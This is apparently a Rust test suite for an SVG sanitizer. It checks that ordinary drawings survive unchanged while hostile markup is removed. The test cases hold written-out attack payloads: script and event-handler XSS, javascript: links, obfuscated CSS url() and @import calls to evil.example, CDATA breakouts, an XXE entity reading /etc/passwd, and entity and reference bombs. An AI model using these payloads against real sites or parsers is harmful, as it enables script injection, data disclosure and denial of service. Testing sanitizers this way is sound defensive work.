//! Hostile and harmless drawings, and what is left of them.

use super::svg::{clean, read};

/// A document around some content.
fn around(content: &str) -> String {
    format!(
        "<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" \
         xmlns:xlink=\"http://www.w3.org/1999/xlink\" viewBox=\"0 0 1 1\">{content}</svg>"
    )
}

/// What is left of the content, without the root.
fn rest(content: &str) -> String {
    let text = clean(&around(content)).unwrap().text;
    let inner = text.strip_prefix("<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 1 1\"").unwrap();
    inner.strip_prefix('>').and_then(|inner| inner.strip_suffix("</svg>")).unwrap_or_default().to_owned()
}

#[test]
fn drawings_stay_as_they_are() {
    for content in [
        "<g id=\"a\" transform=\"translate(1 2)\"><path d=\"M0 0h1\" fill=\"#c00\"/></g>",
        "<defs><linearGradient id=\"g\"><stop offset=\"0\" stop-color=\"red\"/></linearGradient></defs>\
         <rect fill=\"url(#g)\"/>",
        "<style>.a { fill: rgb(1,2,3) } @media (prefers-color-scheme: dark) { .a { fill: white } }</style>",
        "<text x=\"0\">愚者 &amp; &lt;fool&gt;<tspan>!</tspan></text>",
        "<use href=\"#a\"/>",
        "<filter id=\"f\"><feGaussianBlur stdDeviation=\"2\"/></filter>",
    ] {
        assert_eq!(rest(content), content);
    }
}

#[test]
fn hostile_content_is_gone() {
    let cases = [
        // Scripts, in every dress.
        ("<script>alert(1)</script>", ""),
        ("<SCRIPT>alert(1)</SCRIPT>", ""),
        ("<script href=\"https://evil.example/x.js\"/>", ""),
        ("<svg:script xmlns:svg=\"http://www.w3.org/2000/svg\">alert(1)</svg:script>", ""),
        ("<h:script xmlns:h=\"http://www.w3.org/1999/xhtml\">alert(1)</h:script>", ""),
        ("<g><script><![CDATA[alert(1)]]></script><rect/></g>", "<g><rect/></g>"),
        ("<style><script>alert(1)</script></style>", "<style></style>"),
        ("<title><script>alert(1)</script>x</title>", "<title>x</title>"),
        // Event handlers.
        ("<rect onload=\"alert(1)\" width=\"1\"/>", "<rect width=\"1\"/>"),
        ("<rect ONCLICK='alert(1)'/>", "<rect/>"),
        ("<rect onfocusin=\"alert(1)\" tabindex=\"0\"/>", "<rect/>"),
        // Foreign content.
        ("<foreignObject><body xmlns=\"http://www.w3.org/1999/xhtml\"><iframe src=\"x\"/></body></foreignObject>", ""),
        ("<switch><foreignObject><p/></foreignObject><g><path d=\"M0\"/></g></switch>", "<g><path d=\"M0\"/></g>"),
        ("<iframe src=\"https://evil.example\"/><embed/><object/><audio/><video/><canvas/><handler/><listener/>", ""),
        // Links and references to the outside.
        ("<a href=\"javascript:alert(1)\"><rect/></a>", "<rect/>"),
        ("<a xlink:href=\"https://evil.example\" onclick=\"x\"><text>t</text></a>", "<text>t</text>"),
        ("<use href=\"https://evil.example/x.svg#a\"/>", "<use/>"),
        ("<use xlink:href=\"data:image/svg+xml;base64,AAAA#a\"/>", "<use/>"),
        ("<use xlink:href=\"#a\" href=\"https://evil.example/#b\"/>", "<use href=\"#a\"/>"),
        ("<use href=\"#a\" xlink:href=\"#b\"/>", "<use href=\"#a\"/>"),
        ("<image href=\"https://evil.example/pixel.png\"/>", ""),
        ("<image href=\"data:image/png;base64,AAAA\"/>", ""),
        ("<filter id=\"f\"><feImage href=\"https://evil.example/\"/></filter>", "<filter id=\"f\"/>"),
        ("<rect fill=\"url(https://evil.example/#g)\" rx=\"1\"/>", "<rect rx=\"1\"/>"),
        ("<rect style=\"background: url('//evil.example/x')\"/>", "<rect/>"),
        ("<rect style=\"fill: u\\72l(https://evil.example)\"/>", "<rect/>"),
        ("<rect mask=\"url(&#104;ttps://evil.example)\" cursor=\"url(x)\"/>", "<rect/>"),
        ("<style>@import 'https://evil.example/x.css';</style>", ""),
        ("<style>@im<!-- -->port 'https://evil.example/x.css';</style>", ""),
        ("<style>&#64;import 'https://evil.example/x.css';</style>", ""),
        ("<style><![CDATA[ .a { fill: url(https://evil.example) } ]]></style>", ""),
        ("<style>@font-face { font-family: x; src: url(https://evil.example/x.woff) }</style>", ""),
        ("<color-profile href=\"https://evil.example/x.icc\"/><font-face-uri href=\"x\"/>", ""),
        // Things that change links after the fact.
        ("<use href=\"#a\"><animate attributeName=\"href\" to=\"https://evil.example\"/></use>", "<use href=\"#a\"/>"),
        ("<use href=\"#a\"><set attributeName=\"href\" to=\"javascript:alert(1)\"/></use>", "<use href=\"#a\"/>"),
        // Breaking out of where text stands.
        (
            "<text>&lt;/text&gt;&lt;script&gt;alert(1)&lt;/script&gt;</text>",
            "<text>&lt;/text&gt;&lt;script&gt;alert(1)&lt;/script&gt;</text>",
        ),
        (
            "<text><![CDATA[</text><script>alert(1)</script>]]></text>",
            "<text>&lt;/text&gt;&lt;script&gt;alert(1)&lt;/script&gt;</text>",
        ),
        ("<rect id='\"&gt;&lt;script&gt;'/>", "<rect id=\"&quot;&gt;&lt;script&gt;\"/>"),
        ("<style>.a { } &lt;/style&gt;&lt;script&gt;</style>", "<style>.a { } &lt;/style&gt;&lt;script&gt;</style>"),
        // Instructions and comments.
        ("<?xml-stylesheet href=\"https://evil.example/x.css\"?><!-- <script/> --><rect/>", "<rect/>"),
        // Entities that are not defined.
        ("<text>&evil;&#0;a</text><rect id=\"&evil;\"/>", "<text>a</text><rect/>"),
        // Names of other vocabularies.
        ("<sodipodi:namedview inkscape:zoom=\"1\"/><metadata><rdf:RDF/></metadata>", ""),
        ("<g xml:base=\"https://evil.example/\" xml:space=\"preserve\"/>", "<g xml:space=\"preserve\"/>"),
    ];
    for (hostile, left) in cases {
        assert_eq!(rest(hostile), left, "{hostile}");
    }
}

#[test]
fn what_is_left_out_is_named() {
    let clean = clean(&around(
        "<script/><rect onload=\"x\" data-x=\"1\" sodipodi:role=\"line\"/><use href=\"x\"/><style>@import</style>",
    ));
    assert_eq!(clean.unwrap().left_out.into_iter().collect::<Vec<_>>(), ["href", "onload", "script", "style"]);
}

#[test]
fn what_is_no_drawing_is_refused() {
    let deep = "<g>".repeat(80);
    let doubled = |n: u32| format!("<g id=\"p{n}\"><use href=\"#p{0}\"/><use href=\"#p{0}\"/></g>", n + 1);
    let crowd = format!("<svg {}/>", (0..300).map(|n| format!("a{n}=\"\" ")).collect::<String>());
    let bomb = format!("<svg>{}</svg>", (0..40).map(doubled).collect::<String>());
    let cases = [
        ("", "not an SVG drawing"),
        ("just text", "not an SVG drawing"),
        ("<html><svg/></html>", "not an SVG drawing"),
        ("<svg/><svg/>", "not an SVG drawing"),
        ("<svg>", "cut off"),
        ("<svg><g></svg>", "not well-formed"),
        ("<svg a=\"1\" a=\"2\"/>", "not well-formed"),
        ("<svg><g", "not well-formed"),
        (&format!("<svg>{deep}"), "nested deeper"),
        (&bomb, "uses its own parts"),
        (&crowd, "more than 256 attributes"),
    ];
    for (text, says) in cases {
        let fault = clean(text).unwrap_err();
        assert!(fault.contains(says), "{text}: {fault}");
    }
    assert!(read(&mut &b"<svg>\xff</svg>"[..]).unwrap_err().contains("UTF-8"));
    assert!(read(&mut std::io::repeat(b' ')).unwrap_err().contains("larger than"));
}

#[test]
fn entities_cannot_grow() {
    let bomb = "<!DOCTYPE svg [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;\">\
                <!ENTITY x SYSTEM \"file:///etc/passwd\">]><svg><text>&b;&x;</text></svg>";
    assert_eq!(clean(bomb).unwrap().text, "<svg xmlns=\"http://www.w3.org/2000/svg\"><text/></svg>");
}

#[test]
fn our_own_drawings_lose_nothing() {
    use crate::core::cards::{drawing, model::CARDS};
    for card in &CARDS {
        let ours = drawing(card.id).unwrap();
        let clean = clean(&ours).unwrap();
        assert!(clean.left_out.is_empty(), "{}: {:?}", card.id, clean.left_out);
        let tags = |text: &str| text.matches('<').count() - text.matches("</").count();
        assert_eq!(tags(&clean.text), tags(&ours), "{}", card.id);
    }
}

/// What has been cleaned is clean, however the drawing was damaged before.
#[test]
fn damaged_drawings_come_out_clean_or_not_at_all() {
    let whole = around(
        "<!DOCTYPE x [<!ENTITY a 'b'>]><style>.a{fill:url(#g)}</style><g id=\"g\" onclick='x()'><a xlink:href=\"#g\">\
         <text>&lt;b&gt; <![CDATA[<script>]]></text></a><script>1</script><use href=\"#g\" fill=\"url(x)\"/>\
         <foreignObject/></g><!-- - -->",
    );
    let mut random = 7_u32;
    let mut survived = 0;
    for _ in 0..20_000 {
        let mut next = || {
            random = random.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
            (random >> 8) as usize
        };
        let mut bytes = whole.clone().into_bytes();
        for _ in 0..next() % 4 + 1 {
            let (at, from) = (next() % bytes.len(), next() % bytes.len());
            match next() % 3 {
                0 => bytes[at] = b"<>&\"'/=;(#@\\ a\n"[next() % 15],
                1 => bytes.insert(at, bytes[from]),
                _ => drop(bytes.remove(at)),
            }
        }
        let Some(once) = std::str::from_utf8(&bytes).ok().and_then(|text| clean(text).ok()) else { continue };
        survived += 1;
        let again = clean(&once.text).unwrap_or_else(|fault| panic!("{fault}: {}", once.text));
        assert_eq!(again.text, once.text);
        assert!(again.left_out.is_empty(), "{:?} in {}", again.left_out, once.text);
    }
    assert!(survived > 1000, "{survived}");
}
